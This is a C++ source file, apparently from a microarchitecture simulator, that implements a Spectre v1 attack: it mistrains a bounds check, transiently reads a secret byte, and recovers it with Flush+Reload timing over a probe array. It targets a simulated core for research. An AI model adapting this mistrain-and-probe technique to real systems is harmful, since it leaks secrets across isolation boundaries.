#include "attack/spectre_v1.hh"

#include <algorithm>

#include "attack/gadget.hh"
#include "sim/log.hh"

namespace unxpec {

namespace {

// Registers beyond the gadget's (attack/gadget.hh); rP is the probe
// array and rA the bounds-checked array.
constexpr RegIndex rResTab = 7;
constexpr RegIndex rTmp3 = 12;
constexpr RegIndex rBoundAddr = 19;
constexpr RegIndex rJ = 20;
constexpr RegIndex rJMax = 21;
constexpr RegIndex rZero = 22;
constexpr RegIndex rDelta = 26;

} // namespace

SpectreV1::SpectreV1(Core &core, const SpectreConfig &cfg)
    : core_(core), cfg_(cfg)
{
    trials_ = cfg_.mistrainIterations + 1;
    buildProgram();
}

void
SpectreV1::buildProgram()
{
    using namespace gadget;
    ProgramBuilder b;

    probeBase_ = b.alloc(kLineBytes * cfg_.probeEntries);
    arrayBase_ = b.alloc(kLineBytes);
    secretAddr_ = b.alloc(kLineBytes);
    idxBase_ = b.alloc(8 * trials_);
    resultBase_ = b.alloc(8 * cfg_.probeEntries);
    const Addr bound_addr = b.alloc(kLineBytes);

    b.initByte(arrayBase_, 0);  // A[0] = 0: training transmits byte 0
    b.initWord64(bound_addr, 1);
    fillIndexTable(b, idxBase_, trials_, secretAddr_ - arrayBase_);

    // ---- code ---------------------------------------------------------
    b.li(rP, static_cast<std::int64_t>(probeBase_));
    b.li(rA, static_cast<std::int64_t>(arrayBase_));
    b.li(rIdxTab, static_cast<std::int64_t>(idxBase_));
    b.li(rResTab, static_cast<std::int64_t>(resultBase_));
    b.li(rBoundAddr, static_cast<std::int64_t>(bound_addr));
    b.li(rTrial, 0);
    b.li(rTrials, trials_);
    b.li(rZero, 0);

    // Victim warms its own secret.
    b.li(rTmp0, static_cast<std::int64_t>(secretAddr_));
    b.load(rTmp1, rTmp0, 0, 1);

    // FLUSH: evict the whole probe array (line 19 of Algorithm 1).
    for (unsigned j = 0; j < cfg_.probeEntries; ++j)
        b.clflush(rP, static_cast<std::int64_t>(j) * kLineBytes);

    // ---- POISON + VICTIM loop ------------------------------------------
    const int loop_top = b.label();
    const int skip = b.label();
    b.bind(loop_top);
    loadTrialIndex(b);

    // Flush the bound so the branch resolves slowly in the final round.
    b.clflush(rBoundAddr, 0);
    b.fence();

    b.load(rBound, rBoundAddr);
    // Dependent padding: give the transient loads room to finish.
    for (unsigned p = 0; p < 30; ++p)
        b.addi(rBound, rBound, 0);
    b.bge(rIdx, rBound, skip);

    // Transient: y = P[64 * A[index]].
    readSecret(b);
    b.shl(rScaled, rSecret, 6);
    b.add(rTmp3, rP, rScaled);
    b.load(rTmp1, rTmp3);

    b.bind(skip);
    b.addi(rTrial, rTrial, 1);
    b.blt(rTrial, rTrials, loop_top);

    // ---- PROBE: Flush+Reload timing over every entry --------------------
    b.li(rJ, 0);
    b.li(rJMax, cfg_.probeEntries);
    const int probe_top = b.label();
    b.bind(probe_top);

    b.rdtscp(rT0);
    // Make the probe load data-dependent on t0 so it cannot hoist
    // above the timestamp.
    b.and_(rTmp0, rT0, rZero);
    b.shl(rTmp1, rJ, 6);
    b.add(rTmp1, rTmp1, rTmp0);
    b.add(rTmp1, rTmp1, rP);
    b.load(rTmp2, rTmp1);
    b.rdtscp(rT1);
    b.sub(rDelta, rT1, rT0);

    b.shl(rTmp3, rJ, 3);
    b.add(rTmp3, rTmp3, rResTab);
    b.store(rTmp3, 0, rDelta);

    b.addi(rJ, rJ, 1);
    b.blt(rJ, rJMax, probe_top);
    b.halt();

    program_ = b.build();
    dataLoaded_ = false;
}

void
SpectreV1::setSecretByte(std::uint8_t value)
{
    core_.mem().write8(secretAddr_, value);
}

SpectreResult
SpectreV1::leakByte()
{
    RunOptions options;
    options.loadData = !dataLoaded_;
    core_.run(program_, options);
    dataLoaded_ = true;

    SpectreResult result;
    result.probeLatencies.reserve(cfg_.probeEntries);
    for (unsigned j = 0; j < cfg_.probeEntries; ++j) {
        result.probeLatencies.push_back(static_cast<double>(
            core_.mem().read64(resultBase_ + 8 * j)));
    }

    // Entry 0 is polluted by training; scan 1..N-1 for the hit.
    double best = 1e300;
    for (unsigned j = 1; j < cfg_.probeEntries; ++j) {
        if (result.probeLatencies[j] < best) {
            best = result.probeLatencies[j];
            result.guessedByte = static_cast<int>(j);
        }
    }
    result.guessLatency = best;
    // An L1/L2 hit is far below a memory access.
    const double hit_threshold =
        core_.config().memory.accessLatency * 0.5;
    result.cacheHitSignal = best < hit_threshold;
    return result;
}

} // namespace unxpec
